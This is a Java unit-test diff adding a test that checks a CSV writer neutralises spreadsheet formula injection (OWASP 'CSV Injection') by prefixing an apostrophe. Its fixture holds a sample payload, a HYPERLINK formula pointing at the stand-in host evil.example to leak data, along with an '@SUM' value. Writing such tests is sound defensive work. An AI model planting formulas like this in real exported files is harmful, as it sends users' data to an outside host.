@@ -56,6 +56,24 @@ class RoundTripTest {
     }
 
     @Test
+    void aTextFieldASpreadsheetWouldRunIsWrittenWithAnApostrophe() throws IOException {
+        Scenario s = ScenarioGenerator.of(GeneratorMode.AWAD, 3).scenarios(1).getFirst();
+        ResponseContext ctx = new ResponseContext(
+                "=HYPERLINK(\"http://evil.example/?leak\",\"Click me\")", "@SUM(A1:A9)", "-7", 1, null, null, null);
+        StringWriter out = new StringWriter();
+        try (SharedResponsesWriter w = new SharedResponsesWriter(out)) {
+            for (ResponseRow r : ResponseRows.of(s, Side.LEFT, ctx)) {
+                w.write(r);
+            }
+        }
+        String firstRow = out.toString().lines().skip(1).findFirst().orElseThrow();
+
+        // OWASP "CSV Injection": the formula becomes text; a number stays a number
+        assertThat(firstRow)
+                .startsWith("\"'=HYPERLINK(\"\"http://evil.example/?leak\"\",\"\"Click me\"\")\",'@SUM(A1:A9),-7,");
+    }
+
+    @Test
     void scenarioRowsFollowTheColumnMeanings() {
         Scenario s = ScenarioGenerator.of(GeneratorMode.AWAD, 2).scenarios(1).getFirst();
         List<ResponseRow> rows =
